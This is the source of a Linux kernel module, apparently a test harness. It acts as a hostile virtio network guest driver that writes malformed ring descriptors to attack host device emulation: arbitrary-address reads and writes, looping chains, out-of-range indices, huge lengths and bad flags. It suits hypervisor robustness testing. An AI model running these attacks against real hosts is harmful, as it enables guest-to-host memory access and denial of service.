// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile driver of a virtio network device, loaded in a guest in place of virtio_net: it sets up
 * queues as it should, and then writes into a ring by hand what no driver may.
 *
 *   echo ATTACK [ADDRESS] >/sys/module/hostile/parameters/attack
 *
 * resets the device, sets it up, spoils a ring and kicks. ADDRESS, in hexadecimal, is where the
 * attacks read, write, read-second and write-second aim at. What comes of it is for the host to
 * see: QEMU does not tell a guest of the device's NEEDS_RESET.
 */
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/virtio.h>
#include <linux/virtio_config.h>
#include <linux/virtio_ids.h>
#include <linux/virtio_ring.h>

enum { RX, TX, VQS };

static struct virtio_device *target;
static void *page;	/* good memory */
static bool set_up;

static void hostile_done(struct virtqueue *vq)
{
}

static int hostile_find_vqs(struct virtio_device *vdev, struct virtqueue *vqs[VQS])
{
	struct virtqueue_info info[VQS] = {
		[RX] = { "rx", hostile_done },
		[TX] = { "tx", hostile_done },
	};

	return virtio_find_vqs(vdev, VQS, vqs, info, NULL);
}

/* A ring to be spoilt: descriptor `head` is a good chain of one page at first. */
struct ring {
	struct vring_desc *desc;
	struct vring_avail *avail;
	u16 size;
	u16 write;		/* VRING_DESC_F_WRITE where the device writes */
	u64 page;		/* of good memory */
	u64 address;		/* the attack's */
};

static void put_desc(struct ring *r, u16 i, u64 addr, u32 len, u16 flags, u16 next)
{
	r->desc[i].addr = cpu_to_le64(addr);
	r->desc[i].len = cpu_to_le32(len);
	r->desc[i].flags = cpu_to_le16(flags);
	r->desc[i].next = cpu_to_le16(next);
}

static void publish(struct ring *r, u16 head, u16 count)
{
	r->avail->ring[0] = cpu_to_le16(head);
	/* The device must see the chain that it is told of. */
	virtio_wmb(false);
	r->avail->idx = cpu_to_le16(count);
}

static void attack_address(struct ring *r)
{
	put_desc(r, 0, r->address, 1514, r->write, 0);
	publish(r, 0, 1);
}

/* The frame's first part is good memory, its second one is not. */
static void attack_second(struct ring *r)
{
	put_desc(r, 0, r->page, 64, r->write | VRING_DESC_F_NEXT, 1);
	put_desc(r, 1, r->address, 1450, r->write, 0);
	publish(r, 0, 1);
}

static void attack_wrap(struct ring *r)
{
	put_desc(r, 0, U64_MAX - 100, 1514, r->write, 0);
	publish(r, 0, 1);
}

static void attack_loop(struct ring *r)
{
	put_desc(r, 0, r->page, 1, r->write | VRING_DESC_F_NEXT, 0);
	publish(r, 0, 1);
}

/* As many descriptors as there are, each of the longest length. */
static void attack_huge(struct ring *r)
{
	u16 i;

	for (i = 0; i < r->size; i++)
		put_desc(r, i, r->page, U32_MAX, r->write | VRING_DESC_F_NEXT,
			 (i + 1) % r->size);
	publish(r, 0, 1);
}

static void attack_head(struct ring *r)
{
	publish(r, 0xffff, 1);
}

static void attack_next(struct ring *r)
{
	put_desc(r, 0, r->page, 1, r->write | VRING_DESC_F_NEXT, r->size);
	publish(r, 0, 1);
}

static void attack_index(struct ring *r)
{
	publish(r, 0, r->size + 1);
}

static void attack_length(struct ring *r)
{
	put_desc(r, 0, r->page, 0, r->write, 0);
	publish(r, 0, 1);
}

static void attack_direction(struct ring *r)
{
	put_desc(r, 0, r->page, 1514, r->write ^ VRING_DESC_F_WRITE, 0);
	publish(r, 0, 1);
}

static void attack_flags(struct ring *r)
{
	put_desc(r, 0, r->page, 1514, r->write | 0x8000, 0);
	publish(r, 0, 1);
}

static const struct {
	const char *name;
	int vq;
	void (*run)(struct ring *r);
} attacks[] = {
	{ "read", TX, attack_address },
	{ "write", RX, attack_address },
	{ "read-second", TX, attack_second },
	{ "write-second", RX, attack_second },
	{ "tx-wrap", TX, attack_wrap },
	{ "rx-wrap", RX, attack_wrap },
	{ "tx-loop", TX, attack_loop },
	{ "rx-loop", RX, attack_loop },
	{ "tx-huge", TX, attack_huge },
	{ "rx-next", RX, attack_next },
	{ "tx-next", TX, attack_next },
	{ "tx-head", TX, attack_head },
	{ "rx-head", RX, attack_head },
	{ "tx-index", TX, attack_index },
	{ "rx-index", RX, attack_index },
	{ "tx-length", TX, attack_length },
	{ "rx-length", RX, attack_length },
	{ "tx-direction", TX, attack_direction },
	{ "rx-direction", RX, attack_direction },
	{ "tx-flags", TX, attack_flags },
	{ "rx-flags", RX, attack_flags },
};

static void hostile_stop(struct virtio_device *vdev)
{
	virtio_reset_device(vdev);
	if (set_up)
		vdev->config->del_vqs(vdev);
	set_up = false;
}

static int hostile_attack(struct virtio_device *vdev, unsigned int attack, u64 address)
{
	struct virtqueue *vqs[VQS], *vq;
	struct ring ring;
	int err;

	hostile_stop(vdev);
	virtio_add_status(vdev, VIRTIO_CONFIG_S_ACKNOWLEDGE);
	virtio_add_status(vdev, VIRTIO_CONFIG_S_DRIVER);
	err = vdev->config->finalize_features(vdev);
	if (err)
		return err;
	virtio_add_status(vdev, VIRTIO_CONFIG_S_FEATURES_OK);
	err = hostile_find_vqs(vdev, vqs);
	if (err)
		return err;
	set_up = true;

	vq = vqs[attacks[attack].vq];
	ring = (struct ring) {
		.desc = phys_to_virt(virtqueue_get_desc_addr(vq)),
		.avail = phys_to_virt(virtqueue_get_avail_addr(vq)),
		.size = virtqueue_get_vring_size(vq),
		.write = attacks[attack].vq == RX ? VRING_DESC_F_WRITE : 0,
		.page = virt_to_phys(page),
		.address = address,
	};
	attacks[attack].run(&ring);
	virtio_device_ready(vdev);
	virtqueue_notify(vq);
	return 0;
}

static int hostile_set(const char *text, const struct kernel_param *param)
{
	unsigned long long address = 0;
	char name[32];
	unsigned int i;

	if (sscanf(text, "%31s %llx", name, &address) < 1)
		return -EINVAL;
	if (!target)
		return -ENODEV;
	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(attacks[i].name, name))
			return hostile_attack(target, i, address);
	return -EINVAL;
}

static int hostile_get(char *text, const struct kernel_param *param)
{
	unsigned int i;
	int len = 0;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		len += scnprintf(text + len, PAGE_SIZE - len, "%s\n", attacks[i].name);
	return len;
}

static const struct kernel_param_ops hostile_ops = {
	.set = hostile_set,
	.get = hostile_get,
};
module_param_cb(attack, &hostile_ops, NULL, 0600);
MODULE_PARM_DESC(attack, "the attack to be carried out; read: all that there are");

static int hostile_probe(struct virtio_device *vdev)
{
	page = (void *)get_zeroed_page(GFP_KERNEL);
	if (!page)
		return -ENOMEM;
	target = vdev;
	return 0;
}

static void hostile_remove(struct virtio_device *vdev)
{
	target = NULL;
	hostile_stop(vdev);
	free_page((unsigned long)page);
}

static const struct virtio_device_id hostile_ids[] = {
	{ VIRTIO_ID_NET, VIRTIO_DEV_ANY_ID },
	{ }
};

static struct virtio_driver hostile_driver = {
	.driver.name = "hostile",
	.id_table = hostile_ids,
	.probe = hostile_probe,
	.remove = hostile_remove,
};
module_virtio_driver(hostile_driver);
MODULE_DEVICE_TABLE(virtio, hostile_ids);
MODULE_DESCRIPTION("Attacks on a virtio network device");
MODULE_LICENSE("GPL");
